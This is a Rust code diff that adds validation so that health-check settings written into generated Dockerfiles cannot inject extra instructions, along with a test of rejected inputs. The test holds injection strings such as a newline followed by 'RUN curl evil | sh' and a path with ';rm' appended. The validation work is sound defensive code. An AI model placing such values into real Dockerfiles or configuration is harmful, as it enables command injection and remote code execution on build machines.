@@ -134,6 +134,7 @@ impl Config {
                 .unwrap_or((1, 1));
             InputError::at(path, line, col, explain_toml_error(e.message()))
         })?;
+        check_written_values(path, text, &config.health)?;
         for (key, patterns) in [
             ("select", &config.rules.select),
             ("ignore", &config.rules.ignore),
@@ -154,6 +155,55 @@ impl Config {
     pub fn base_dir(&self) -> Option<&Path> {
         self.origin.as_deref().and_then(Path::parent)
     }
+}
+
+/// Checks the `[health]` values seaworthy writes into Dockerfiles: nothing
+/// in them may start another instruction or run another command.
+fn check_written_values(path: &Path, text: &str, health: &Health) -> Result<(), InputError> {
+    let image_ok = !health.stage_image.is_empty()
+        && health
+            .stage_image
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._/:@-".contains(c));
+    let binary_ok = health.stage_binary.as_deref().is_none_or(|b| {
+        b.starts_with('/')
+            && b.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "._/-".contains(c))
+    });
+    let args_ok = health
+        .stage_probe_args
+        .iter()
+        .flatten()
+        .all(|a| !a.chars().any(char::is_control));
+    for (ok, key, what) in [
+        (
+            image_ok,
+            "stage_image",
+            "an image reference (letters, digits and ._/:@- only)",
+        ),
+        (
+            binary_ok,
+            "stage_binary",
+            "an absolute path (letters, digits and ._/- only)",
+        ),
+        (
+            args_ok,
+            "stage_probe_args",
+            "arguments without control characters",
+        ),
+    ] {
+        if !ok {
+            let at = text.find(key).unwrap_or(0);
+            let (line, col) = crate::source::line_col(text.as_bytes(), at);
+            return Err(InputError::at(
+                path,
+                line,
+                col,
+                format!("[health] {key} must be {what}: it is written into Dockerfiles"),
+            ));
+        }
+    }
+    Ok(())
 }
 
 /// Turns serde's "unknown field `x`, expected one of `a`, `b`" into a
@@ -288,6 +338,20 @@ ignore = ["SW208"]
         assert_eq!(config.health.style, Style::Stage);
         assert_eq!(config.services["agent"].health_port, Some(8000));
         assert_eq!(config.rules.ignore, ["SW208"]);
+    }
+
+    #[test]
+    fn values_written_into_dockerfiles_are_checked() {
+        for bad in [
+            "[health]\nstage_image = \"alpine\\nRUN curl evil | sh\"\n",
+            "[health]\nstage_image = \"a b\"\n",
+            "[health]\nstage_binary = \"bin/x\"\n",
+            "[health]\nstage_binary = \"/bin/x;rm\"\n",
+            "[health]\nstage_probe_args = [\"--http\", \"{url}\\nRUN x\"]\n",
+            "[rules]\nselect = [\"SW2O1\"]\n",
+        ] {
+            assert!(Config::parse(Path::new("s.toml"), bad).is_err(), "{bad}");
+        }
     }
 
     #[test]
